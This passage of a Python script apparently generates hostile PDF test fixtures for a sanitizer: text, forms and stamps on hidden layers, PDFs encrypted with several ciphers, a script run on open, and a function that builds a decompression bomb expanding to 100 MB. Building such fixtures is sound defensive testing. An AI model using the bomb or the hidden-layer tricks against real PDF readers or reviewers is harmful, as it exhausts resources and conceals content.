    other("hidden-layer-text", document(catalog=layers, resources="/Properties<</A 6 0 R/B 7 0 R>>", content="/OC /A BDC " + TEXT + " EMC /OC /B BDC BT /F1 9 Tf 72 500 Td (TZCANARY-oc-154) Tj [(TZCANARY)-9(-oc-155)] TJ T* (TZCANARY-oc-156) ' 1 2 (TZCANARY-oc-157) \" ET EMC", more=groups), "Text on a layer that is off.", "Gone and told; the other layer stays.", "OCG")
    other("hidden-layer-form", document(catalog=layers, resources="/XObject<</X 8 0 R/Y 9 0 R>>", content=TEXT + " /X Do /Y Do", more=[*groups, ("/Type/XObject/Subtype/Form/BBox[0 0 99 99]/OC 7 0 R/Resources<</Font<</F1 5 0 R>>>>", "BT /F1 9 Tf (TZCANARY-oc-158) Tj ET"),
        ("/Type/XObject/Subtype/Image/Width 16/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/OC<</Type/OCMD/OCGs[7 0 R]/P/AllOn>>", "TZCANARY-oc-1590")]), "A form and a picture on a layer that is off.", "Gone and told.", "OCG")
    other("hidden-layer-annotation", document(catalog=layers, page="/Annots[8 0 R]", more=[*groups, annotation("/OC 7 0 R/AP<</N 9 0 R>>", "Stamp"), form("", "BT /F1 9 Tf (TZCANARY-oc-160) Tj ET", "/Font<</F1 5 0 R>>")]), "A stamp on a layer that is off.", "Gone.", "OCG")
    return rows


def object_stream_bomb():
    """100 MB of blanks in an object stream, packed twice so that the file stays small."""
    squeeze = zlib.compressobj(9)
    packed = b"".join(squeeze.compress(b" " * 1_000_000) for _ in range(100)) + squeeze.flush()
    packed = zlib.compress(packed, 9)
    pdf = Pdf()
    pdf.add("<</Type/Catalog/Pages 2 0 R>>")
    pdf.add("<</Type/Pages/Kids[3 0 R]/Count 1>>")
    pdf.add("<</Type/Page/MediaBox[0 0 9 9]/Contents 9 0 R/Parent 2 0 R>>")
    pdf.stream(packed.decode("latin-1"), "/Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]")
    out = pdf.finish()
    at = out.rindex(b"startxref")
    place = out.index(b"4 0 obj")
    here = out.rindex(b"xref\n0")
    rows = b"\0\0\0\0\0\0"
    for number in (1, 2, 3, 4):
        rows += b"\1" + out.index(b"%d 0 obj" % number).to_bytes(3, "big") + b"\0\0"
    rows += b"\0\0\0\0\0\0" * 4 + b"\2\0\0\4\0\0" + b"\1" + here.to_bytes(3, "big") + b"\0\0"
    assert place and at
    return out[:here] + (b"10 0 obj\n<</Type/XRef/Size 11/W[1 3 2]/Root 1 0 R/Length %d>>\nstream\n" % len(rows)) + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % here


def qpdf(data, *arguments):
    with tempfile.TemporaryDirectory() as folder:
        before, after = pathlib.Path(folder, "a.pdf"), pathlib.Path(folder, "b.pdf")
        before.write_bytes(data)
        subprocess.run(["qpdf", "--deterministic-id" if "--encrypt" not in arguments else "--static-id", *arguments, str(before), str(after)], check=True, stdout=subprocess.DEVNULL)
        return after.read_bytes()


def encrypted():
    """Cipher texts hold random bytes for 256 bits; the others are the same on every run. All are made once."""
    secret = document(content="BT /F1 12 Tf 72 720 Td (TZCANARY-secret-170) Tj ET")
    plain = document(catalog="/OpenAction 6 0 R", more=[js("owner-171")])
    weak = ["--allow-weak-crypto"]
    yield "encrypted-user-aes256", qpdf(secret, "--encrypt", "user", "owner", "256", "--"), "A user password, AES-256.", "Withheld as encrypted; the cipher is noted."
    yield "encrypted-user-aes128", qpdf(secret, *weak, "--encrypt", "user", "owner", "128", "--use-aes=y", "--"), "A user password, AES-128.", "Withheld as encrypted."
    yield "encrypted-user-rc4", qpdf(secret, *weak, "--encrypt", "user", "owner", "40", "--"), "A user password, RC4-40.", "Withheld as encrypted."
    yield "encrypted-owner-aes256", qpdf(plain, "--encrypt", "", "owner", "256", "--print=none", "--"), "An owner password only, and a script.", "Opened, told, washed."
    yield "encrypted-owner-rc4", qpdf(plain, *weak, "--encrypt", "", "owner", "128", "--use-aes=n", "--"), "The same with RC4.", "Opened, told, washed."
    yield "encrypted-owner-cleartext-metadata", qpdf(plain, *weak, "--encrypt", "", "owner", "128", "--cleartext-metadata", "--use-aes=y", "--"), "An owner password, metadata outside the encryption.", "Opened, told, washed."
    yield "encrypted-public-key", document(trailer="/Encrypt<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4/CF<</DefaultCryptFilter<</CFM/AESV2/Recipients[<545A43414E415259>]>>>>/StmF/DefaultCryptFilter/StrF/DefaultCryptFilter>>/ID[<00><00>]"), "Encrypted for certificates.", "Withheld as encrypted."


def write(root, name, data, *why):
    folder = root / "pdf" / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "in.pdf").write_bytes(data)
    (folder / "why.md").write_text("\n".join(why) + "\n", encoding="utf-8")


def make(root):
    for name, data, what, then, which in hostile():
        if name == "object-stream-bomb":
            data = object_stream_bomb()
        write(root, name, data, what, then, f"file-rules 2.5, {which}.")
    for name, data, what, then in encrypted():
        if not (root / "pdf" / name).exists():
            write(root, name, data, what, then, "file-rules 2.5, encryption.")
    import _pdf_benign
    _pdf_benign.make(root, write)
